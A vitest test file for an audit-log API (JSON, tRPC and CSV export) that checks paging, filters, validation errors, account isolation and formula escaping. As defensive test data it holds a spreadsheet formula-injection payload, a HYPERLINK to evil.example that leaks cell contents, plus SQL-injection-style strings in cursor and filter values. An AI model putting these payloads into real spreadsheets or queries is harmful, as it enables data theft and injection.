/**
 * The audit log read over real HTTP, on both databases: GET /api/audit and tRPC audit.list
 * (newest first, keyset pages, filters by action, action group, actor and time, a 400 naming
 * the field for anything malformed), and GET /api/audit.csv (every matching event, streamed a
 * page at a time, escaped, and defused against spreadsheet formulas). One account never sees
 * another's events.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditEvent, AuditPage } from "../../shared/schemas/audit.ts";
import { DB_KINDS } from "../helpers/databases.ts";
import { TestClient } from "../helpers/http-client.ts";
import { type Merchant, signedInMerchant } from "../helpers/merchants.ts";
import { startTestApp, type TestApp, testClock } from "../helpers/test-app.ts";
import { csvRecords, parseCsv } from "./csv-parse.ts";

const MINUTE = 60_000;

describe.each(DB_KINDS)("audit log API on %s", (kind) => {
  let t: TestApp;
  let merchant: Merchant;
  let other: Merchant;
  /** When the merchant's own changes start (after their sign-ins). */
  let changesFrom: Date;

  const list = async (who: Merchant, query = "") => {
    const res = await who.api.json<AuditPage>(`/api/audit${query}`);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return res.body;
  };
  const all = async (who: Merchant, query = "") => {
    const items: AuditEvent[] = [];
    let cursor: string | null = null;
    do {
      const sep = query ? "&" : "?";
      const page: AuditPage = await list(
        who,
        `${query}${cursor ? `${sep}cursor=${encodeURIComponent(cursor)}` : ""}`,
      );
      items.push(...page.items);
      cursor = page.next_cursor;
    } while (cursor);
    return items;
  };
  const put = async (who: Merchant, path: string, body: unknown, method = "PUT") => {
    const res = await who.api.json(path, { method, body });
    expect(res.status, `${method} ${path}: ${JSON.stringify(res.body)}`).toBe(200);
    t.clock.advance(MINUTE);
    return res.body;
  };

  beforeAll(async () => {
    // Midday, so the day filters below do not depend on when the tests run.
    t = await startTestApp(kind, { clock: testClock(Date.parse("2026-11-20T12:00:00Z")) });
    merchant = await signedInMerchant(t, `audit-api-${kind}@example.com`);
    other = await signedInMerchant(t, `audit-other-${kind}@example.com`);
    t.clock.advance(MINUTE);
    changesFrom = t.clock.now();
    const rules = (await merchant.api.json<Record<string, unknown>>("/api/rules")).body;
    await put(merchant, "/api/rules", { ...rules, risk_level_threshold: 80 });
    await put(merchant, "/api/blocklist", { countries: ["KP"], email_providers: [] });
    await put(merchant, "/api/rules", { ...rules, risk_level_threshold: 90 });
    await put(merchant, "/api/allowlist", { kind: "user_id", value: "vip-1" }, "POST");
    await put(merchant, "/api/rules", { ...rules, risk_level_threshold: 75 });
    // The other account changes its rules too: none of it may show in the merchant's log.
    await put(other, "/api/rules", { ...rules, risk_level_threshold: 55 });
  });
  afterAll(async () => {
    await t?.close();
  });

  it("lists the account's events newest first, and pages through them with the cursor", async () => {
    const whole = await list(merchant, "?limit=200");
    expect(whole.next_cursor).toBeNull();
    const actions = whole.items.map((event) => event.action);
    expect(actions.slice(0, 5)).toEqual([
      "rules.put",
      "allowList.add",
      "rules.put",
      "blocklist.put",
      "rules.put",
    ]);
    // Before them, the sign-ins of signedInMerchant (the console's and the script's).
    expect(actions.slice(5)).toEqual(["auth.sign_in", "auth.sign_in"]);
    const times = whole.items.map((event) => event.at);
    expect(times).toEqual([...times].sort().reverse());
    expect(whole.items.every((event) => event.actor === merchant.email)).toBe(true);
    expect(whole.items.every((event) => event.ip === "127.0.0.1")).toBe(true);
    expect(whole.items[0]).toMatchObject({
      actor_kind: "member",
      before: expect.objectContaining({ risk_level_threshold: 90 }),
      after: expect.objectContaining({ risk_level_threshold: 75 }),
    });

    // Two at a time: the same events, in the same order, each once; the last page says so.
    const first = await list(merchant, "?limit=2");
    expect(first.items).toHaveLength(2);
    expect(first.next_cursor).toEqual(expect.any(String));
    const paged = await all(merchant, "?limit=2");
    expect(paged.map((event) => event.id)).toEqual(whole.items.map((event) => event.id));

    // tRPC, as the console asks: the same page.
    const trpc = await merchant.browser.query<AuditPage>("audit.list", { limit: 2 });
    expect(trpc).toMatchObject({ ok: true, data: { items: first.items } });
    const next = await merchant.browser.query<AuditPage>("audit.list", {
      limit: 2,
      cursor: first.next_cursor,
    });
    expect(next.ok && next.data.items.map((event) => event.id)).toEqual(
      paged.slice(2, 4).map((event) => event.id),
    );
  });

  it("filters by action, an action group, the actor and the time", async () => {
    const ids = (items: AuditEvent[]) => items.map((event) => event.action);
    expect(ids((await list(merchant, "?action=rules.")).items)).toEqual([
      "rules.put",
      "rules.put",
      "rules.put",
    ]);
    expect(ids((await list(merchant, "?action=blocklist.put")).items)).toEqual(["blocklist.put"]);
    // An exact name is exact: "rules.p" names no action.
    expect((await list(merchant, "?action=rules.p")).items).toEqual([]);
    expect(ids((await list(merchant, "?action=blocklist.,allowList.")).items)).toEqual([
      "allowList.add",
      "blocklist.put",
    ]);
    // "_" is a letter, not a wildcard: auth.sign_in is not auth.sign_in_failed's prefix.
    expect(ids((await list(merchant, "?action=auth.sign_in")).items)).toEqual([
      "auth.sign_in",
      "auth.sign_in",
    ]);
    expect((await list(merchant, "?action=auth.sign_in_")).items).toEqual([]);

    // Part of the actor, any case; % and _ mean themselves.
    const upper = encodeURIComponent(`AUDIT-API-${kind.toUpperCase()}@`);
    expect((await list(merchant, `?actor=${upper}`)).items).toHaveLength(7);
    expect((await list(merchant, "?actor=%25")).items).toEqual([]);
    expect((await list(merchant, "?actor=audit_api")).items).toEqual([]);
    expect((await list(merchant, "?actor=someone-else")).items).toEqual([]);

    // since is inclusive, until exclusive: the changes, not the sign-ins before them.
    const since = encodeURIComponent(changesFrom.toISOString());
    expect((await list(merchant, `?since=${since}`)).items).toHaveLength(5);
    expect((await list(merchant, `?until=${since}`)).items.map((e) => e.action)).toEqual([
      "auth.sign_in",
      "auth.sign_in",
    ]);
    const third = new Date(changesFrom.getTime() + 2 * MINUTE).toISOString();
    expect(
      ids((await list(merchant, `?since=${since}&until=${encodeURIComponent(third)}`)).items),
    ).toEqual(["blocklist.put", "rules.put"]);
    // A date is a whole UTC day: until= that day takes in all of it.
    const day = changesFrom.toISOString().slice(0, 10);
    const dayAfter = new Date(changesFrom.getTime() + 2 * 86_400_000).toISOString().slice(0, 10);
    expect((await list(merchant, `?since=${day}&until=${dayAfter}`)).items).toHaveLength(7);
    // Filters and pages together.
    const rules = await all(merchant, "?action=rules.&limit=1");
    expect(rules.map((e) => e.after)).toEqual([
      expect.objectContaining({ risk_level_threshold: 75 }),
      expect.objectContaining({ risk_level_threshold: 90 }),
      expect.objectContaining({ risk_level_threshold: 80 }),
    ]);
  });

  it("answers a malformed filter, limit or cursor with a 400 naming the field", async () => {
    const cursorOf = (text: string) => Buffer.from(text).toString("base64url");
    const cases: [string, string][] = [
      ["?cursor=nope", "cursor"],
      [
        `?cursor=${cursorOf("+275760-09-13T00:00:00.000Z|0b9d7f0e-6a55-4c7b-9d35-0b3b7b7b7b7b")}`,
        "cursor",
      ],
      [`?cursor=${cursorOf(`${new Date().toISOString()}|x'; DROP TABLE x`)}`, "cursor"],
      [`?cursor=${"a".repeat(201)}`, "cursor"],
      ["?since=yesterday", "since"],
      ["?until=2026-13-01", "until"],
      ["?since=2026-11-20T10:00:00", "since"],
      ["?since=2026-11-21&until=2026-11-20", "until"],
      ["?limit=0", "limit"],
      ["?limit=201", "limit"],
      ["?limit=ten", "limit"],
      ["?limit=", "limit"],
      ["?action=DROP%20TABLE", "action"],
      [`?action=${"rules.,".repeat(21)}`, "action"],
      ["?actor=%00", "actor"],
      ["?actor=a&actor=b", "actor"],
    ];
    for (const [query, field] of cases) {
      const res = await merchant.api.json<{ error: { issues?: { path: string }[] } }>(
        `/api/audit${query}`,
      );
      expect(res.status, query).toBe(400);
      expect(
        res.body.error.issues?.map((issue) => issue.path),
        query,
      ).toContain(field);
      if (field === "cursor" || field === "limit") continue; // the export takes neither
      const csv = await merchant.api.json<{ error: { issues?: { path: string }[] } }>(
        `/api/audit.csv${query}`,
      );
      expect(csv.status, `csv ${query}`).toBe(400);
      expect(
        csv.body.error.issues?.map((issue) => issue.path),
        `csv ${query}`,
      ).toContain(field);
    }
    const trpc = await merchant.browser.query("audit.list", { cursor: "nope" });
    expect(trpc).toMatchObject({ ok: false, status: 400 });
    expect(JSON.stringify(trpc)).toContain("cursor");
    const big = await merchant.browser.query("audit.list", { limit: 500 });
    expect(big).toMatchObject({ ok: false, status: 400 });
  });

  it("keeps each account's log to itself, and needs a session", async () => {
    const mine = await all(merchant);
    const theirs = await all(other);
    expect(theirs.map((e) => e.action)).toEqual(["rules.put", "auth.sign_in", "auth.sign_in"]);
    expect(theirs.every((e) => e.actor === other.email)).toBe(true);
    const mineIds = new Set(mine.map((e) => e.id));
    expect(theirs.some((e) => mineIds.has(e.id))).toBe(false);
    // Another account's cursor pages only through one's own events.
    const page = await list(merchant, "?limit=1");
    const through = await list(other, `?cursor=${page.next_cursor}`);
    expect(through.items.every((e) => e.actor === other.email)).toBe(true);
    const csv = await (await other.api.request("/api/audit.csv")).text();
    expect(csv).not.toContain(merchant.email);

    const anonymous = new TestClient(t.baseUrl, {});
    expect((await anonymous.json("/api/audit")).status).toBe(401);
    expect((await anonymous.json("/api/audit.csv")).status).toBe(401);
    expect((await anonymous.query("audit.list", {})).status).toBe(401);
  });

  it("exports every matching event as CSV, escaped and defused against formulas", async () => {
    const response = await merchant.api.request("/api/audit.csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const day = t.clock.now().toISOString().slice(0, 10);
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="audit-${day}.csv"`,
    );
    const text = await response.text();
    const [header] = parseCsv(text);
    expect(header).toEqual([
      "at",
      "actor_kind",
      "actor",
      "ip",
      "action",
      "target",
      "before",
      "after",
      "target_label",
    ]);
    const records = csvRecords(text);
    const events = await all(merchant);
    expect(records.map((r) => r.at)).toEqual(events.map((e) => e.at));
    expect(records[0]).toMatchObject({
      actor_kind: "member",
      actor: merchant.email,
      ip: "127.0.0.1",
      action: "rules.put",
      target: "",
      target_label: "",
    });
    expect(JSON.parse(records[0]?.before ?? "")).toMatchObject({ risk_level_threshold: 90 });
    expect(JSON.parse(records[0]?.after ?? "")).toMatchObject({ risk_level_threshold: 75 });
    const rulesOnly = csvRecords(
      await (await merchant.api.request("/api/audit.csv?action=rules.")).text(),
    );
    expect(rulesOnly.map((r) => r.action)).toEqual(["rules.put", "rules.put", "rules.put"]);

    // Text a member or a backend chose, starting a formula: each cell starts with an apostrophe.
    const signer = await signedInMerchant(t, `+1-1-${kind}@example.com`);
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+1+1",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1",
      "\r=1",
      'comma, "quote"\nand a new line',
    ];
    for (const target of hostile) {
      t.clock.advance(1000);
      await t.app.services.audit.record({
        accountId: signer.accountId,
        actor: { kind: "member", id: null, name: signer.email },
        ip: "127.0.0.1",
        action: "labels.add",
        target,
      });
    }
    const signed = csvRecords(await (await signer.api.request("/api/audit.csv")).text());
    expect(signed.map((r) => r.target)).toEqual([
      'comma, "quote"\nand a new line',
      "'\r=1",
      "'\t=1",
      "'@SUM(A1:A9)",
      "'-2+3",
      "'+1+1",
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "",
      "",
    ]);
    expect(new Set(signed.map((r) => r.actor))).toEqual(new Set([`'${signer.email}`]));
    // No cell of the export starts a formula.
    const cells = parseCsv(await (await signer.api.request("/api/audit.csv")).text()).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("documents both routes in the OpenAPI document", async () => {
    // biome-ignore lint/suspicious/noExplicitAny: the generated document, read loosely
    const doc = await new TestClient(t.baseUrl, {}).json<any>("/api/openapi.json");
    expect(doc.status).toBe(200);
    const list = doc.body.paths["/api/audit"].get;
    expect(list.parameters.map((p: { name: string }) => p.name).sort()).toEqual([
      "action",
      "actor",
      "cursor",
      "limit",
      "since",
      "until",
    ]);
    expect(list.responses["200"].content["application/json"].schema.properties).toHaveProperty(
      "next_cursor",
    );
    const csv = doc.body.paths["/api/audit.csv"].get;
    expect(csv.parameters.map((p: { name: string }) => p.name).sort()).toEqual([
      "action",
      "actor",
      "since",
      "until",
    ]);
    expect(csv.responses["200"].content).toHaveProperty("text/csv");
  });

  it("streams a log longer than a page, every event once, newest first", async () => {
    const bulk = await signedInMerchant(t, `audit-bulk-${kind}@example.com`);
    const start = t.clock.now().getTime() - 30 * 86_400_000;
    // 1,201 events: past two of the export's pages of 500, and one more.
    await t.prisma.auditEvent.createMany({
      data: Array.from({ length: 1201 }, (_, i) => ({
        accountId: bulk.accountId,
        at: new Date(start + i * 1000),
        actorKind: "api_key",
        actor: "API key 1a2b3c4d",
        action: "labelsApi.create",
        target: `subject-${i}`,
      })),
    });
    const response = await bulk.api.request("/api/audit.csv?action=labelsApi.create");
    expect(response.status).toBe(200);
    const records = csvRecords(await response.text());
    expect(records).toHaveLength(1201);
    expect(records.map((r) => r.target)).toEqual(
      Array.from({ length: 1201 }, (_, i) => `subject-${1200 - i}`),
    );
    expect((await list(bulk, "?actor=api%20key&limit=200")).next_cursor).not.toBeNull();
  });
});
